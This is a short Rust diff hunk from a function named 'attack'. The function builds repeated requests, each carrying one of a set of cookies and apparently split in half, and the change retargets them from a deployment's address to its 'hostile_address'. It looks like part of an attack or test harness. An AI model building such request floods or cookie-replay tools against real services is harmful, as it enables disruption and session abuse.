@@ -25,7 +25,7 @@ pub(super) async fn attack(deployment: &Deployment, form: Form) -> Sent {
         let mut lines = JoinSet::new();
         for turn in 0..many {
             let cookie = cookies.get(turn % cookies.len().max(1)).cloned().unwrap_or_default();
-            let to = deployment.address();
+            let to = deployment.hostile_address();
             let (mut request, body) = half_of(length, &cookie);
             request.extend_from_slice(&body);
             let request = Arc::new(request);
